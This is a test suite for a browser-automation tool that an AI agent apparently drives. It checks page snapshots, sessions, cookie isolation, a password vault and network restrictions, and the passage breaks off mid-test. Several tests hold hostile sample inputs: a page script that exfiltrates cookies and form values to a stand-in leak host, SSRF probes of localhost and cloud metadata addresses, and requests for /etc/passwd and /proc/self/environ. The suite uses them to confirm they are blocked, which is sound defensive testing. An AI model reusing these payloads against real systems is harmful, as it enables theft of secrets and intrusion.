import { readdir, readFile, stat, writeFile } from 'node:fs/promises'
import { createServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { HermesError } from '@hermes/contracts'
import type { Action } from '@hermes/contracts/policy'
import { needs } from '@hermes/testkit/daemons'
import { afterAll, afterEach, beforeAll, expect, it, onTestFinished, vi } from 'vitest'
import { browserCommandIn } from './__fixtures__/browser-command-in.js'
import { filesThatHold } from './__fixtures__/files-that-hold.js'
import { processes } from './__fixtures__/processes.js'
import { type BrowserScene, ELSEWHERE, openScene, PUBLIC, permitAll } from './__fixtures__/scene.js'
import { type Answer, type Site, startSite } from './__fixtures__/site.js'
import { findBrowser } from './launch/find-browser.js'
import { NO_SANDBOX } from './session/notices.js'
import { renderPage } from './session/render-page.js'

const missing = await findBrowser({ env: process.env, executable: null }).then(
  () => null,
  () => 'no Chromium',
)

const refuse = async () => {
  throw new HermesError('The test refused.', { code: 'policy.denied' })
}

needs(missing)('the browser', () => {
  let scene: BrowserScene
  let site: Site
  let dev: Site
  const at = (path: string) => `http://site.test:${site.port}${path}`
  const local = (path: string) => `http://localhost:${dev.port}${path}`
  const page = (body: string) => `<!doctype html><title>T</title>${body}`
  const open = (path: string, body: string) => {
    site.pages[path] = page(body)
    return scene.call('browser_navigate', { url: at(path) })
  }
  const refs = (text: string, what: string) =>
    [...text.matchAll(new RegExp(`\\[(e\\d+)\\] ${what}`, 'g'))].map((match) => match[1]!)

  beforeAll(async () => {
    scene = await openScene()
    scene.watchMs = 200
    site = await startSite(PUBLIC)
    dev = await startSite('127.0.0.1')
  })
  afterEach(() => {
    scene.denies = () => false
    scene.requested.length = 0
    site.seen.length = 0
    dev.seen.length = 0
  })
  afterAll(async () => {
    await scene[Symbol.asyncDispose]()
    await site[Symbol.asyncDispose]()
    await dev[Symbol.asyncDispose]()
  })

  it('shows what can be seen and acted on, with references', async () => {
    const text = await open(
      '/',
      '<h1>Shop</h1><p>Welcome to <b>our</b> shop.</p><a href="/two">Second</a><label>Name <input value="Ann"></label><button disabled>Buy</button><select aria-label="Size"><option>S<option selected>M</select><input type=checkbox checked aria-label=Agree><input type=password value=geheim aria-label=Key><div style="display:none">secret</div><img alt="A cat" src="data:,">',
    )
    expect(text).toMatch(/heading 1 "Shop"\nWelcome to our shop\.\n\[e\d+\] link "Second"/)
    expect(text).toMatch(/\[e\d+\] textbox "Name" = "Ann"/)
    expect(text).toMatch(/button "Buy" \(disabled\)/)
    expect(text).toMatch(/combobox "Size" = "M" of S \| M/)
    expect(text).toMatch(/checkbox "Agree" \(checked\)/)
    expect(text).toMatch(/password "Key" = "\(set\)"/)
    expect(text).toContain('image "A cat"')
    expect(text).not.toMatch(/secret|geheim/)
    // Said once, where it is so.
    expect(text.includes(NO_SANDBOX)).toBe(process.getuid?.() === 0)
    expect(await scene.call('browser_snapshot')).not.toContain(NO_SANDBOX)
  })

  it('shows a page of 2,000 rows in 4 kB, and every row on request', async () => {
    const rows = Array.from({ length: 2000 }, (_, at) => `<li><a href="/r${at}">Row ${at}</a> costs ${at}</li>`)
    const text = await open('/rows', `<ul>${rows.join('')}</ul>`)
    expect(text.length).toBeLessThan(4096)
    expect(text).toMatch(/below: \d+ lines, \d+ links/)
    expect(await scene.call('browser_snapshot', { find: 'Row 1999' })).toMatch(/\[e\d+\] link "Row 1999"\ncosts 1999/)
    const part = await scene.call('browser_snapshot', { more: 1 })
    const [, count, path = ''] = /\(all (\d+) lines: (\S+whole-page\.txt)\)$/.exec(part)!
    const lines = (await readFile(path, 'utf8')).trimEnd().split('\n')
    expect(lines).toHaveLength(Number(count))
    expect(lines.filter((line) => /^\[e\d+\] link "Row \d+"$/.test(line))).toHaveLength(2000)
    expect((await stat(path)).mode & 0o777).toBe(0o600)
    // Its folder was said with the first such page of the tab.
    expect(text).toMatch(new RegExp(`\\n\\(all ${count} lines: (?:${path}|whole-page\\.txt)\\)$`))
    expect(await scene.call('browser_scroll', { direction: 'down' })).toMatch(/above: \d+ lines/)
    expect(await open('/short', '<p>Short</p>')).not.toContain('lines:')
    const next = await open('/next-list', `<ul>${'<li>Entry</li>'.repeat(400)}</ul>`)
    expect(next).toContain('\n(all 400 lines: whole-page.txt)')
    expect(await readFile(path, 'utf8')).toBe('Entry\n'.repeat(400))
  })

  it('clicks and types, and tells only what changed', async () => {
    const text = await open(
      '/form',
      '<input id=a aria-label=Name><button onclick="o.textContent=\'Hello \'+a.value">Greet</button><p id=o></p><select aria-label=Size><option>S<option>M</select>',
    )
    const typed = await scene.call('browser_type', { ref: refs(text, 'textbox')[0], text: 'Zoë 日本語' })
    expect(typed).toContain('= "Zoë 日本語"')
    const clicked = await scene.call('browser_click', { ref: refs(text, 'button')[0] })
    expect(clicked).toBe('Clicked button "Greet".\nChanged: Hello Zoë 日本語')
    const size = refs(text, 'combobox')[0]
    expect(await scene.call('browser_select', { ref: size, values: ['m'] })).toContain('Chose "M".')
    await expect(scene.call('browser_select', { ref: size, values: ['XL'] })).rejects.toThrow('it has "S", "M"')
    await expect(scene.call('browser_press', { key: 'Retrun' })).rejects.toThrow('There is no key "Retrun"')
  })

  it('lists pictures and errors of the console, which also come with the answer of another tool', async () => {
    site.pages['/cat.svg'] = (_request, response) =>
      void response
        .writeHead(200, { 'content-type': 'image/svg+xml' })
        .end('<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"/>')
    const text = await open(
      '/boat',
      `<img src="/cat.svg" alt="A cat"><button onclick="console.error('The boat sank'); console.log('Fine'); setTimeout(() => { throw new Error('Oar lost') })">Row</button>`,
    )
    expect(await scene.call('browser_get_images')).toBe(`40x30 "A cat" ${at('/cat.svg')}`)
    await scene.call('browser_console', { clear: true })
    let answers = await scene.call('browser_click', { ref: refs(text, 'button')[0] })
    await expect
      .poll(async () => (answers += await scene.call('browser_wait', { seconds: 0.1 })))
      .toContain('Console uncaught: Oar lost')
    expect(answers).toContain('Console error: The boat sank')
    expect(answers).not.toContain('Fine')
    expect(await scene.call('browser_console', { clear: true })).toBe('error: The boat sank\nuncaught: Oar lost')
    expect(await scene.call('browser_console')).toBe('No errors.')
    await open('/none', 'words')
    expect(await scene.call('browser_get_images')).toBe('The page has no images.')
  })

  it('follows links and goes back', async () => {
    const text = await open('/one', '<a href="/next">Next</a>')
    site.pages['/next'] = page('<h1>Next page</h1>')
    expect(await scene.call('browser_click', { ref: refs(text, 'link')[0] })).toContain('heading 1 "Next page"')
    expect(await scene.call('browser_back')).toContain('link "Next"')
  })

  it('says the head of a site once, and what a field is called once', async () => {
    const head = Array.from({ length: 9 }, (_, at) => `<a href="/h${at}">Part ${at}</a> `).join('')
    const text = await open('/first', `${head}<h1>First</h1><a href="/second">On</a>`)
    site.pages['/second'] = page(`${head}<h1>Second</h1><label>Name <input></label>`)
    const second = await scene.call('browser_click', { ref: refs(text, 'link "On"')[0] })
    expect(second.replace(/e\d+/g, 'e')).toMatch(
      /\n\(9 lines as before, e to e\)\nheading 1 "Second"\n\[e\] textbox "Name" = ""$/,
    )
    expect(refs(await scene.call('browser_snapshot'), 'link "Part')).toHaveLength(9)
    expect(await open('/second', `${head}<h1>Again</h1>`)).toContain('link "Part 4"')
  })

  it('is frozen by no dialog', async () => {
    const text = await open('/alert', "<button onclick=\"alert('Sure?');this.textContent='after'\">x</button>")
    const clicked = await scene.call('browser_click', { ref: refs(text, 'button')[0] })
    expect(clicked).toContain('A dialog is open, and the page waits for it: alert "Sure?"')
    await expect(scene.call('browser_snapshot')).rejects.toThrow('a dialog has to be answered first')
    expect(await scene.call('browser_dialog', { action: 'accept' })).toContain('button "after"')
    expect(await scene.call('browser_snapshot')).toContain('button "after"')
  })

  it('answers dialogs by itself where that is chosen, and those that nobody answers in time', async () => {
    const { settings } = scene
    onTestFinished(() => {
      scene.settings = settings
    })
    const click = async (chosen: Partial<typeof settings>) => {
      scene.settings = { ...settings, ...chosen }
      const text = await open('/asks', "<button onclick=\"this.textContent = 'got ' + confirm('Sure?')\">Ask</button>")
      return scene.call('browser_click', { ref: refs(text, 'button')[0] })
    }
    const accepted = await click({ dialogs: 'auto_accept' })
    expect(accepted).toMatch(/button "got true"[\s\S]*Accepted by itself: confirm "Sure\?"\.$/)
    const dismissed = await click({ dialogs: 'auto_dismiss' })
    expect(dismissed).toMatch(/button "got false"[\s\S]*Dismissed by itself: confirm "Sure\?"\.$/)
    let answers = await click({ dialogMs: 50 })
    const look = async () => {
      answers += await scene.call('browser_snapshot').catch(String)
      return answers
    }
    await expect.poll(look).toContain('Nobody answered within 0.05 s, so it was dismissed: confirm "Sure?".')
    expect(await scene.call('browser_snapshot')).toContain('button "got false"')
  })

  it('shows what is within one element alone', async () => {
    const text = await open('/parts', '<a href=/a>Outside</a><div tabindex=0>Box <button>Within</button></div>')
    const [scope] = refs(text, 'clickable')
    const part = await scene.call('browser_snapshot', { scope })
    expect(part).toMatch(/\[e\d+\] button "Within"/)
    expect(part).not.toContain('Outside')
    expect(await scene.call('browser_snapshot', { scope, find: 'Outside' })).toContain('Nothing on the page holds')
  })

  it('says at once that an element is gone, with the nearest equal one', async () => {
    const text = await open(
      '/stale',
      '<div id=d><button>Buy</button></div><button onclick="d.innerHTML=\'<button>Buy</button>\'">New</button>',
    )
    const [buy, renew] = refs(text, 'button')
    await scene.call('browser_click', { ref: renew })
    await expect(scene.call('browser_click', { ref: buy })).rejects.toThrow(
      /e\d+ \(button "Buy"\) is gone. The nearest equal one is \[e\d+\] button "Buy"/,
    )
  })

  it('says what covers an element', async () => {
    const text = await open(
      '/covered',
      '<button>Buy</button><div style="position:fixed;inset:0;background:white">Accept cookies</div>',
    )
    const clicking = scene.call('browser_click', { ref: refs(text, 'button')[0] })
    await expect(clicking).rejects.toThrow('is covered by div "Accept cookies"')
  })

  it('acts within frames of both kinds and within shadow roots', async () => {
    site.pages['/inner'] = page('<button onclick="this.textContent=\'done\'">press</button>')
    await open(
      '/frames',
      `<div style="height:1500px">top</div><iframe src="/inner"></iframe><iframe src="http://other.test:${site.port}/inner"></iframe><p id=h></p><script>h.attachShadow({mode:'open'}).innerHTML='<button onclick="this.textContent=\\'done\\'">press</button>'</script>`,
    )
    const buttons = refs(await scene.call('browser_snapshot', { more: 1 }), 'button "press"')
    expect(buttons).toHaveLength(3)
    for (const ref of buttons) expect(await scene.call('browser_click', { ref })).toContain('button "done"')
  })

  it('tells of tabs that pages open, and shows them', async () => {
    site.pages['/tab'] = page('<h1>Other tab</h1>')
    const text = await open('/opens', '<a href="/tab" target=_blank>Open</a>')
    let answers = await scene.call('browser_click', { ref: refs(text, 'link')[0] })
    while (!answers.includes('opened tab')) answers += await scene.call('browser_wait', { seconds: 0.2 })
    const number = Number(/opened tab (\d+)/.exec(answers)![1])
    expect(await scene.call('browser_tabs', { action: 'select', tab: number })).toContain('heading 1 "Other tab"')
    expect(await scene.call('browser_tabs', { action: 'close', tab: number })).not.toContain('Other tab')
  })

  it('opens a window that a click asks for, also after a request, which speaks with its page and closes itself', async () => {
    site.pages['/token'] = 'seven'
    site.pages['/consent'] = page(
      `<h1>May the shop know who you are?</h1><button onclick="opener.postMessage('code ' + location.hash.slice(1), '*'); window.close()">Allow</button>`,
    )
    const login = `fetch('/token').then((answer) => answer.text()).then((token) => window.open('http://login.test:${site.port}/consent#' + token, 'login', 'width=400,height=500'))`
    const text = await open(
      '/sign-in',
      `<button onclick="${login}">Sign in</button><button onclick="window.print()">Print</button><p id=o></p><script>onmessage = ({ data }) => { o.textContent = 'In with ' + data }</script>`,
    )
    const [signIn, print] = refs(text, 'button')
    let answers = await scene.call('browser_click', { ref: signIn })
    while (!answers.includes('opened tab')) answers += await scene.call('browser_wait', { seconds: 0.2 })
    const tab = Number(/opened tab (\d+)/.exec(answers)![1])
    const consent = await scene.call('browser_tabs', { action: 'select', tab })
    await scene.call('browser_click', { ref: refs(consent, 'button "Allow"')[0] })
    await expect.poll(() => scene.call('browser_snapshot').catch(String)).toContain('In with code seven')
    expect(await scene.call('browser_click', { ref: print })).toContain('Clicked button "Print"')
    expect(await scene.call('browser_snapshot')).toContain('In with code seven')
  })

  it('asks about a server of this machine with the word that its certificate is not checked', async () => {
    const pem = (name: string) => readFile(join(import.meta.dirname, `../../testkit/src/tls/loopback.${name}.pem`))
    const server = createServer({ cert: await pem('cert'), key: await pem('key') }, (_request, response) =>
      response.writeHead(200, { 'content-type': 'text/html' }).end(page('<h1>Signed by itself</h1>')),
    )
    await new Promise<void>((resolve) => server.listen(0, '0.0.0.0', resolve))
    const { port } = server.address() as AddressInfo
    onTestFinished(() => {
      server.close()
      server.closeAllConnections()
      scene.answers = null
      scene.questions.length = 0
    })
    scene.answers = () => 'once'
    const near = `https://localhost:${port}/`
    expect(await scene.call('browser_navigate', { url: near })).toContain('heading 1 "Signed by itself"')
    expect(scene.questions[0]).toMatch(/^GET https:\/\/localhost:\d+\/: .*its certificate is not checked/)
    await expect(scene.call('browser_navigate', { url: `https://site.test:${port}/` })).rejects.toThrow(
      'The certificate of the site is not valid, so it was not opened.',
    )
  })

  it('gives pages of the public web no way to this machine', async () => {
    dev.pages['/'] = page('near')
    expect(await scene.call('browser_navigate', { url: local('/') })).toContain('near')
    dev.seen.length = 0
    const target = `http://127.0.0.1:${dev.port}`
    const text = await open(
      '/bad',
      `<iframe src="${local('/frame')}"></iframe><img src="${target}/img"><script src="http://rebind.test:${dev.port}/js"></script><link rel=prefetch href="${local('/prefetch')}"><script>
        for (const at of ['${target}', '${local('')}', 'http://[::1]:${dev.port}', 'http://2130706433:${dev.port}', 'http://0.0.0.0:${dev.port}', 'http://rebind.test:${dev.port}', 'http://169.254.169.254']) {
          fetch(at + '/fetch', {mode: 'no-cors'}).catch(() => {}); navigator.sendBeacon(at + '/beacon', 'x'); try { new WebSocket(at.replace('http', 'ws') + '/ws') } catch {}
        }
        new Worker(URL.createObjectURL(new Blob(["fetch('${local('/worker')}', {mode: 'no-cors'})"])))
        setTimeout(() => window.open('${local('/open')}'), 50)
      </script><a href="${local('/link')}">go</a><form method=post action="${local('/form')}"><button>send</button></form>`,
    )
    expect(text).toContain('pages of the public web may not go')
    expect(await scene.call('browser_click', { ref: refs(text, 'link')[0] })).toContain('may not go')
    expect(await scene.call('browser_click', { ref: refs(text, 'button')[0] })).toContain('may not go')
    site.pages['/redirect'] = (_request, response) =>
      response.writeHead(302, { location: `${target}/redirected` }).end()
    await expect(scene.call('browser_navigate', { url: at('/redirect') })).rejects.toThrow('may not go')
    expect(dev.seen).toEqual([])
  })

  it('asks once for a near origin, and opens what it links to among the public pages', async () => {
    await using other = await startSite('127.0.0.1', { '/': page(`<a href="${at('/out')}">out</a>`) })
    site.pages['/out'] = page('<h1>Public</h1>')
    const url = `http://localhost:${other.port}/`
    scene.denies = ({ type }) => type === 'fetch'
    await expect(scene.call('browser_navigate', { url })).rejects.toThrow('Not permitted')
    expect(other.seen).toEqual([])
    scene.denies = () => false
    scene.requested.length = 0
    const text = await scene.call('browser_navigate', { url })
    await scene.call('browser_navigate', { url })
    expect(scene.requested.filter((action) => action.type === 'fetch' && action.url === url)).toHaveLength(2)
    expect(await scene.call('browser_click', { ref: refs(text, 'link')[0] }).catch(String)).toMatch(/is gone|Public/)
    const again = await scene.call('browser_navigate', { url })
    expect(await scene.call('browser_click', { ref: refs(again, 'link')[0] })).toContain('heading 1 "Public"')
  })

  it('opens nothing but http and https', async () => {
    for (const url of [
      'file:///etc/passwd',
      'chrome://version',
      'data:text/html,x',
      'blob:http://site.test/1',
      'javascript:alert(1)',
    ])
      await expect(scene.call('browser_navigate', { url })).rejects.toThrow('http and https')
    for (const url of ['http://169.254.169.254/', 'http://[fd00:ec2::254]/', 'http://metadata.google.internal/'])
      await expect(scene.call('browser_navigate', { url })).rejects.toThrow('metadata')
    // Nor does a page that was opened.
    const made = `window.URL.createObjectURL(new Blob(['led'], { type: 'text/html' }))`
    const ways = [`location = 'data:text/html,led'`, `location = ${made}`, `window.open(${made})`]
    const buttons = ways.map((way, n) => `<button onclick="${way}">Way ${n}</button>`)
    const text = await open('/leads', `<h1>Leads nowhere</h1>${buttons.join('')}`)
    expect(text).toContain('heading 1 "Leads nowhere"')
    let answers = ''
    for (const number of ways.keys()) {
      const [ref] = refs(await scene.call('browser_snapshot'), `button "Way ${number}"`)
      answers += await scene.call('browser_click', { ref }).catch(String)
      await expect.poll(() => scene.call('browser_snapshot').catch(String)).toContain('heading 1 "Leads nowhere"')
    }
    await expect.poll(() => scene.call('browser_tabs')).not.toMatch(/data:|blob:/)
    answers += await scene.call('browser_snapshot')
    expect(answers).toMatch(/The page led to blob:\S+, and nothing but http and https is opened\./)
  })

  it('gives what a page became once its scripts have run, and keeps nothing of it', async () => {
    const words = 'Scripts wrote this, and nobody would have read it otherwise. '.repeat(8)
    site.pages['/data'] = words
    site.pages['/app'] = page(
      `<div id="root"></div><script>document.cookie = 'seen=1'; setTimeout(async () => {
        const text = await (await fetch('/data')).text()
        document.querySelector('#root').innerHTML = '<h1>App</h1><p>' + text + '</p>'
      }, 150)</script>`,
    )
    const opened: string[] = []
    const call = {
      signal: AbortSignal.timeout(25_000),
      permit: (action: Action, options?: { readonly mayAsk?: boolean }) => {
        if (options?.mayAsk !== false) opened.push((action as { readonly url: string }).url)
        return permitAll(action)
      },
    }
    const shown = await renderPage(scene.sessions, at('/app'), call)
    expect(shown).toMatchObject({ url: at('/app'), html: expect.stringContaining(words.trim()) })
    expect(opened).toEqual([at('/app')])
    await expect(renderPage(scene.sessions, local('/secret'), { ...call, permit: refuse })).rejects.toThrow('refused')
    expect(dev.seen).toEqual([])
    site.pages['/cookies'] = (request, response) => void response.end(`cookies: ${request.headers.cookie ?? 'none'}`)
    expect((await renderPage(scene.sessions, at('/cookies'), call)).html).toContain('cookies: none')
    site.pages['/alert'] = page('<script>alert(1)</script>')
    await expect(renderPage(scene.sessions, at('/alert'), call)).rejects.toThrow(/alert "1"/)
    expect(scene.sessions.list().map(([id]) => id)).not.toContainEqual(expect.stringMatching(/^once/))
  })

  it('keeps the cookies of sessions apart', async () => {
    site.pages['/cookie'] = (request, response) =>
      response
        .writeHead(200, { 'content-type': 'text/html', 'set-cookie': 'who=one' })
        .end(request.headers.cookie ?? 'none')
    await scene.call('browser_navigate', { url: at('/cookie') })
    expect(await scene.call('browser_navigate', { url: at('/cookie') })).toContain('who=one')
    expect(await scene.call('browser_navigate', { url: at('/cookie') }, 'two')).toContain('none')
    await scene.sessions.end('two')
  })

  it('has a session work in the pages of another one that handed it the key, and in none after that one has ended', async () => {
    await scene.call('browser_navigate', { url: at('/cookie') }, 'parent')
    await scene.call('browser_navigate', { url: at('/cookie') }, 'parent')
    expect(await scene.call('browser_navigate', { url: at('/cookie') }, 'child')).toContain('none')
    const [, key] = /key (\S+)\.$/.exec(await scene.call('browser_tabs', { action: 'hand' }, 'parent'))!
    await expect(scene.call('browser_tabs', { action: 'take', key: 'guessed' }, 'child')).rejects.toThrow('no pages')
    await scene.call('browser_tabs', { action: 'take', key }, 'child')
    expect(await scene.call('browser_snapshot', {}, 'child')).toContain('who=one')
    await scene.sessions.end('child')
    expect(await scene.call('browser_snapshot', {}, 'parent')).toContain('who=one')
    await scene.call('browser_tabs', { action: 'take', key }, 'child')
    await scene.sessions.end('parent')
    await expect(scene.call('browser_snapshot', {}, 'child')).rejects.toThrow('No page is open')
    await scene.sessions.end('child')
  })

  it('keeps cookies, address and scroll position of a session that slept', async () => {
    site.pages['/long'] = (request, response) =>
      response
        .writeHead(200, { 'content-type': 'text/html' })
        .end(
          `<a href="/beside" target=_blank>Beside</a>${'<p style="height:700px">up'.repeat(5)}<p>${request.headers.cookie ?? 'none'}`,
        )
    await scene.call('browser_navigate', { url: at('/cookie') })
    const long = await scene.call('browser_navigate', { url: at('/long') })
    let beside = await scene.call('browser_click', { ref: refs(long, 'link "Beside"')[0] })
    while (!beside.includes('opened tab')) beside += await scene.call('browser_wait', { seconds: 0.1 })
    for (let screen = 0; screen < 5; screen++) await scene.call('browser_scroll', { direction: 'down' })
    await scene.sessions.get('one').close({ sleeps: true })
    expect(scene.sessions.get('one').isAwake).toBe(false)
    const woken = await scene.call('browser_snapshot')
    expect(woken).toMatch(/\/long \(at 100 % of[\s\S]*above[\s\S]*who=one[\s\S]*had been closed while idle/)
    expect(woken).toMatch(/Other tabs had been closed while idle: .*\/beside\. browser_navigate opens them again\./)
    await scene.call('browser_navigate', { url: at('/cookie') })
  })

  it('keeps cookies beyond sessions under a name that the person chose, and only then', async () => {
    scene.settings = { ...scene.settings, profile: 'work' }
    await scene.call('browser_navigate', { url: at('/cookie') }, 'named')
    await scene.sessions.end('named')
    expect(await scene.call('browser_navigate', { url: at('/cookie') }, 'named too')).toContain('who=one')
    expect((await stat(join(scene.folder, 'profiles', 'work-public.json'))).mode & 0o777).toBe(0o600)
    scene.settings = { ...scene.settings, profile: null }
    expect(await scene.call('browser_navigate', { url: at('/cookie') }, 'unnamed')).toContain('none')
    for (const id of ['named too', 'unnamed']) await scene.sessions.end(id)
  })

  it('fills a login in at its own site alone, and no answer holds the password', async () => {
    const password = 'canary-Tr0ub4dor&3'
    const origin = `http://site.test:${site.port}`
    await scene.vault.unlock('open sesame')
    await scene.vault.put({ name: 'shop', origin, user: 'ann', password, seed: 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ' })
    expect(await readFile(join(scene.folder, 'vault.json'), 'utf8')).not.toMatch(/canary|ann|shop/)
    expect(await scene.call('browser_vault_list')).toBe(`shop: ann at ${origin} (makes codes)`)
    const fields =
      '<input aria-label=User><input type=password aria-label=Key oninput="o.textContent=this.value;console.error(this.value)"><input aria-label=Code><p id=o></p>'
    const text = await open('/login', fields)
    const [user, code] = refs(text, 'textbox')
    const [key] = refs(text, 'password')
    const login = { name: 'shop', user_ref: user, password_ref: key }
    const answers = [
      await scene.call('browser_vault_fill', login),
      await scene.call('browser_snapshot'),
      await scene.call('browser_console'),
      await scene.call('browser_cdp', { method: 'Runtime.evaluate', params: { expression: 'o.textContent' } }),
      await scene.call('browser_vision', { question: 'What?' }).catch(String),
    ]
    expect(answers[0]).toContain('Filled shop into textbox "User" and password "Key"')
    expect(answers[1]).toContain('textbox "User" = "ann"')
    expect(answers[4]).toContain('No picture was taken')
    expect(answers.join()).not.toContain(password)
    expect(scene.concealed).toContain(password)
    expect(await scene.call('browser_vault_enter_code', { name: 'shop', ref: code })).toMatch(/"Code" = /)
    await expect(scene.call('browser_vault_fill', { name: 'shop', password_ref: user })).rejects.toThrow(
      'no field for a password',
    )
    await expect(scene.call('browser_vault_fill', { name: 'bank', password_ref: key })).rejects.toThrow('it has shop')
    const other = await scene.call('browser_navigate', { url: `http://other.test:${site.port}/login` })
    await expect(
      scene.call('browser_vault_fill', { ...login, user_ref: undefined, password_ref: refs(other, 'password')[0] }),
    ).rejects.toThrow(`shop was saved for ${origin}, and this field is of http://other.test:${site.port}`)
  })

  it('shows and sends none of twenty secrets: the vault, cookies of another session, the environment', async () => {
    const canary = (kind: string, at: number) => `cnry-${kind}-${(at * 7919 + 104_729).toString(36)}`
    const kinds = [
      ['vault', 7],
      ['cookie', 7],
      ['variable', 6],
    ] as const
    const secrets = kinds.flatMap(([kind, count]) => Array.from({ length: count }, (_, at) => canary(kind, at)))
    expect(secrets).toHaveLength(20)
    await using own = await openScene()
    await using leak = await startSite(ELSEWHERE)
    const variables = secrets.slice(14).map((secret, at) => [`HERMES_CANARY_${at}`, secret] as const)
    onTestFinished(() => void vi.unstubAllEnvs())
    for (const [name, secret] of variables) vi.stubEnv(name, secret)
    const origin = `http://site.test:${site.port}`
    const cookies = secrets.slice(7, 14).map((secret, at) => `c${at}=${secret}; Path=/; HttpOnly`)
    site.pages['/set'] = (_request, response) =>
      void response.writeHead(200, { 'content-type': 'text/html', 'set-cookie': cookies }).end('set')
    // Whatever a page can get at, it shows, writes to its console, and sends away.
    const grab = page(`<input type=password aria-label=Key oninput="grab()"><p id=o></p><script>
      const grab = async () => {
        const all = [document.cookie, location.href, JSON.stringify(navigator.userAgent), JSON.stringify({ ...localStorage }), document.querySelector('input').value,
          JSON.stringify(performance.getEntries())].join(' ')
        o.textContent = all; console.error(all); new Image().src = 'http://x.leak.test:${leak.port}/?' + encodeURIComponent(all)
        fetch('http://x.leak.test:${leak.port}/', { method: 'POST', mode: 'no-cors', credentials: 'include', body: all }).catch(() => {})
      }; grab()</script>`)
    site.pages['/grab'] = (request, response) =>
      void response.writeHead(200, { 'content-type': 'text/html' }).end(`${grab}<p>${request.headers.cookie ?? ''}`)
    const answers: string[] = []
    const call = async (name: string, args: object, session = 'grabbing') => {
      const text = await own.call(name, args, session).catch((error: Error) => error.message)
      if (session === 'grabbing') answers.push(text)
      return text
    }
    await own.vault.unlock('open sesame')
    for (const [at, password] of secrets.slice(0, 7).entries())
      await own.vault.put({ name: `login${at}`, origin, user: 'ann', password })
    await call('browser_navigate', { url: at('/set') }, 'other')
    for (const seen of [site.seen, site.headers]) seen.length = 0
    own.isTainted = true
    own.answers = ({ summary }) => (summary.includes('browser-vault') ? 'once' : 'deny')
    for (let login = 0; login < 7; login++) {
      const text = await call('browser_navigate', { url: at('/grab') })
      await call('browser_vault_fill', { name: `login${login}`, password_ref: refs(text, 'password')[0] })
    }
    for (const [name, args] of [
      ['browser_snapshot', {}],
      ['browser_console', {}],
      ['browser_tabs', {}],
      ['browser_get_images', {}],
      ['browser_cdp', { method: 'Network.getAllCookies' }],
      ['browser_cdp', { method: 'Storage.getCookies' }],
      ['browser_cdp', { method: 'SystemInfo.getInfo' }],
      ['browser_cdp', { method: 'Runtime.evaluate', params: { expression: 'document.cookie + o.textContent' } }],
      ['browser_navigate', { url: 'file:///proc/self/environ' }],
      ['browser_vision', { question: 'What is there?' }],
      ['browser_vault_list', {}],
    ] as const)
      await call(name, args)
    expect(answers.filter((text) => /Filled login\d/.test(text))).toHaveLength(7)
    const sent = [...leak.seen, ...leak.headers, ...site.seen, ...site.headers]
    const heard = [...answers, ...sent, ...own.resolved, ...own.questions, ...own.logged].join('\n')
    expect(secrets.filter((secret) => heard.includes(secret))).toEqual([])
    expect(await filesThatHold(own.folder, secrets)).toEqual([])
  })

  it('takes no picture of a field that shows what the vault filled in', async () => {
    const origin = `http://site.test:${site.port}`
    await scene.vault.unlock('open sesame')
    await scene.vault.put({ name: 'seen', origin, user: 'ann', password: 'canary-Tr0ub4dor&4' })
    const [ref] = refs(await open('/seen', '<input type=password aria-label=Key>'), 'password')
    await scene.call('browser_vault_fill', { name: 'seen', password_ref: ref })
    const look = () => scene.call('browser_vision', { question: 'What?' })
    await expect(look()).resolves.toContain('/seen')
    const label = "document.querySelector('input').ariaLabel = 'x'.repeat(110) + 'canary-Tr0ub4dor&4'"
    await scene.call('browser_cdp', { method: 'Runtime.evaluate', params: { expression: label } })
    expect(await scene.call('browser_snapshot')).toMatch(/x\[REDACTED\]…/)
    const expression = "document.querySelector('input').type = 'text'"
    await scene.call('browser_cdp', { method: 'Runtime.evaluate', params: { expression } })
    await expect(look()).rejects.toThrow('No picture was taken')
  })

  it('has the person type a password that is to be kept', async () => {
    await open('/register', '<input type=password aria-label=Key>')
    const saving = scene.call('browser_vault_save_login', { name: 'new', user: 'bob' })
    await expect(saving).rejects.toThrow('was not given')
    for (const user of ['bob at https://bank.test "', 'x'.repeat(101)])
      await expect(scene.call('browser_vault_save_login', { name: 'new', user })).rejects.toThrow('without spaces')
    scene.typedSecrets.push('typed-by-a-person')
    expect(await scene.call('browser_vault_save_login', { name: 'new', user: 'bob' })).toBe('Kept as new.')
    expect((await scene.vault.get('new')).password).toBe('typed-by-a-person')
  })

  it('says whether the browser starts, and what stands in its way', async () => {
    const found = await browserCommandIn(scene, 'doctor')
    expect(found).toMatchObject({
      type: 'findings',
      findings: [{ level: 'ok' }, { level: 'ok', text: expect.stringContaining('It starts') }],
    })
    const nowhere = { ...scene.settings, executable: '/no/such/browser' }
    expect(await browserCommandIn({ ...scene, settings: nowhere }, 'doctor')).toMatchObject({
      findings: [{ level: 'fail', text: expect.stringContaining('/no/such/browser') }],
    })
  })

  it('calls the protocol of the browser for the page alone', async () => {
    await open('/cdp', '<p>words')
    const params = { expression: 'document.title', returnByValue: true }
    expect(await scene.call('browser_cdp', { method: 'Runtime.evaluate', params })).toContain('"value":"T"')
    await expect(scene.call('browser_cdp', { method: 'DOM.nothing' })).rejects.toThrow(/DOM.nothing.*wasn't found/)
    for (const method of [
      'Target.createBrowserContext',
      'Fetch.disable',
      'Page.navigate',
      'Browser.close',
      'Storage.getCookies',
      'DOM.setFileInputFiles',
    ])
      await expect(scene.call('browser_cdp', { method })).rejects.toThrow('is not called')
  })

  it('keeps four sessions awake at most', async () => {
    for (const id of ['one', 'two', 'three', 'four', 'five'])
      expect(await scene.call('browser_navigate', { url: at('/cookie') }, id)).toContain(
        id === 'one' ? 'who=one' : 'none',
      )
    expect(scene.sessions.list().map(([, session]) => session.isAwake)).toEqual([false, true, true, true, true])
    for (const id of ['two', 'three', 'four', 'five']) await scene.sessions.end(id)
    expect(await scene.call('browser_snapshot')).toContain('who=one')
  })

  it('is closed once nobody used it for two minutes, and opens again as it was', async () => {
    await open('/idle', '<h1>As it was</h1>')
    const group = scene.pid!
    scene.aheadMs += 100_000
    await scene.call('browser_snapshot')
    scene.aheadMs += 119_000
    await new Promise(setImmediate)
    expect(scene.sessions.isRunning).toBe(true)
    scene.aheadMs += 2_000
    await expect.poll(() => scene.sessions.isRunning).toBe(false)
    await expect.poll(async () => (await processes()).filter((one) => one.group === group)).toEqual([])
    expect(await scene.call('browser_snapshot')).toMatch(/heading 1 "As it was"[\s\S]*had been closed while idle/)
  })

  it('says that it was killed, and opens again', async () => {
    await open('/kill', 'alive')
